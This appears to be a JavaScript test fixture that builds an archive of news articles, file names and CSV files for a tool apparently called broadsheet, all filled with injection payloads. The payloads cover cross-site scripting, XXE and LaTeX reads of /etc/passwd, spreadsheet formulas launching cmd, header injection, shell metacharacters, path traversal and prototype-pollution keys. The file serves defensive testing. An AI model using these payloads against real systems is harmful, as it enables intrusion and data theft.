// SPDX-License-Identifier: GPL-3.0-or-later
// An archive whose every field, file name and parameter would like to be something else than text.
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { broadsheet, temporaryFolder } from "./program.mjs";

/** Each calls trap() where it runs. Written for these tests; nothing of it leaves the machine. */
export const payloads = [
    "<script>trap(1)</script>",
    "</script><script>trap(2)</script>",
    "<!--<script>trap(3)",
    "--><script>trap(4)</script>",
    "</title></textarea></style><script>trap(5)</script>",
    "<img src=x onerror=trap(6)>",
    "<svg onload=trap(7)><a xlink:href=javascript:trap(8)><text>go</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=trap(9)>",
    "<iframe srcdoc='<script>parent.trap(10)</script>'></iframe>",
    "<form action=javascript:trap(11)><button formaction=javascript:trap(12)>go</button></form>",
    "<base href=https://elsewhere.example/><meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
    "<link rel=stylesheet href=https://elsewhere.example/a.css><style>@import 'https://elsewhere.example/b.css'</style>",
    "<details open ontoggle=trap(13)><summary>go</summary></details>",
    "\" onmouseover=\"trap(14)\" autofocus onfocus=\"trap(15)\" x=\"",
    "' onmouseover='trap(16)' autofocus onfocus='trap(17)' x='",
    "` onmouseover=trap(18) autofocus onfocus=trap(19) ",
    "x onfocus=trap(20) autofocus ",
    "javascript:trap(21)",
    " \u0001jAvA\tscRipt\n:trap(22)",
    "data:text/html,<script>trap(23)</script>",
    "vbscript:trap(24)",
    "//elsewhere.example/trap",
    "/\\elsewhere.example/trap",
    "https://elsewhere.example/\"onclick=\"trap(25)",
    "{{trap(26)}} {{{title}}} {{#t}}Search{{/t}} {{> page}} {{=<% %>=}} ${trap(27)} <%= trap(28) %> {n} {query} #{trap(29)}",
    "+ADw-script+AD4-trap(30)+ADw-/script+AD4-",
    "&lt;script&gt;trap(31)&lt;/script&gt; &#60;script&#62;trap(32)&#60;/script&#62; &amp;lt;img src=x onerror=trap(33)&amp;gt;",
    "]]><script>trap(34)</script><![CDATA[ ]]&gt; <?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "line\u2028separator\u2029trap(35)//\u0085 and \u000b\u000c\u001c too",
    "left \u202Eright\u202C \u2066isolated\u2069 \u200Fmark",
    "nul\u0000byte \uFFFE\uFFFF \uFDD0 \u{1FFFE} bell\u0007 esc\u001b]0;owned\u0007\u001b[2J csi\u009b31m",
    "=HYPERLINK(\"https://elsewhere.example/?\"&A1,\"go\")",
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1＋1",
    "'=1+1",
    "''@twice",
    "a,b;c\td\"e\"\"f",
    "ER  - \r\nTY  - BOOK\r\nAU  - Nobody",
    "\\input{/etc/passwd} \\write18{trap} $x^2_3$ {unbalanced %comment & # ~",
    "}, title = {owned} } @article{owned, title={owned}",
    "\r\nX-Injected: trap\r\n\r\n<script>trap(36)</script>",
    "%0d%0aX-Injected:%20trap %00 %3Cscript%3Etrap(37)%3C/script%3E %u003cscript%u003e",
    "$(trap) `trap` ; trap | trap && trap > trap 'trap",
    "../../../../etc/passwd",
    "__proto__",
    "constructor",
    "<mark>trap</mark></mark><b>bold</b>",
];

/** What ingest keeps of a text of one line: spaces folded, what nobody sees left out. */
export const kept = (text) => text.normalize("NFC").replaceAll(/[\s\u0085]+/g, " ")
    .replaceAll(/[\u0000-\u001f\u007f-\u009f\u00ad\u200b\u2060\ufeff\u202a-\u202e\u2066-\u2069\ufdd0-\ufdef]|[\ufffe\uffff]|\u{1fffe}/gu, "").trim();

export const titleOf = (index) => `Ferry${index} ${payloads[index]}`;

const article = (index, body) => {
    const text = payloads[index];
    return {
        id: `key ${index} ${text}`, url: index % 3 === 0 ? text : `https://news.example/${index}?a=${text}`,
        title: index % 2 === 0 ? titleOf(index) : `${text} Ferry${index}`, subtitle: text, authors: [text, `By ${text}`], source: text, agency: text, section: text,
        tags: [text, `tag ${text}`], language: index % 5 === 0 ? text : "en", place: text,
        published: index % 7 === 0 ? text : `2025-01-${String(1 + index % 28).padStart(2, "0")}`, modified: text, seen: text, body,
    };
};

const long = (word) => `The ${word} board has agreed to stop its oldest cranes between eleven and five at night. `
    + "Neighbours had counted four hundred nights without any sleep at all. The board itself had counted forty of them.";

/** { archive, folder, remove }. Articles of each payload, one with an earlier text, a story, meanings of acronyms, problems. */
export async function hostileArchive() {
    const folder = await temporaryFolder();
    const files = join(folder.path, "files");
    const archive = join(folder.path, "archive");
    await mkdir(files);
    const lines = (change) => payloads.map((text, index) => JSON.stringify(article(index,
        `${text}\n\n${text} ferry ${change} ${text}. The Harbour <b>Board</b> Service (HBS) met, and so did Harried "Baker's" Sons (HBS).\n\n=1+1\n${text}`))).join("\n");
    const story = payloads.slice(0, 12).map((text, index) => JSON.stringify({
        title: `Cranes ${index} ${text}`, source: `${index} ${text}`, published: "2025-03-20", body: `${long("harbour")} ${index} ${text}` })).join("\n");
    await writeFile(join(files, "a.jsonl"), lines("older"));
    await writeFile(join(files, "story.jsonl"), story);
    await broadsheet("index", "--archive", archive, files);
    await writeFile(join(files, "a.jsonl"), lines("newer and \"changed\" <i>much</i>"));
    // Names of files, members, columns and reasons of problems.
    for (const [index, text] of payloads.entries()) {
        const name = text.replaceAll(/[/\u0000]/g, "_").slice(0, 60);
        await writeFile(join(files, `${index} ${name}.jsonl`), "{\"title\": \"Half");
        await writeFile(join(files, `${index} ${name}.csv`), `"${text.replaceAll("\"", "\"\"")}",b\n1,2\n`);
    }
    await broadsheet("index", "--archive", archive, files);
    return { archive, files, folder: folder.path, remove: folder.remove };
}
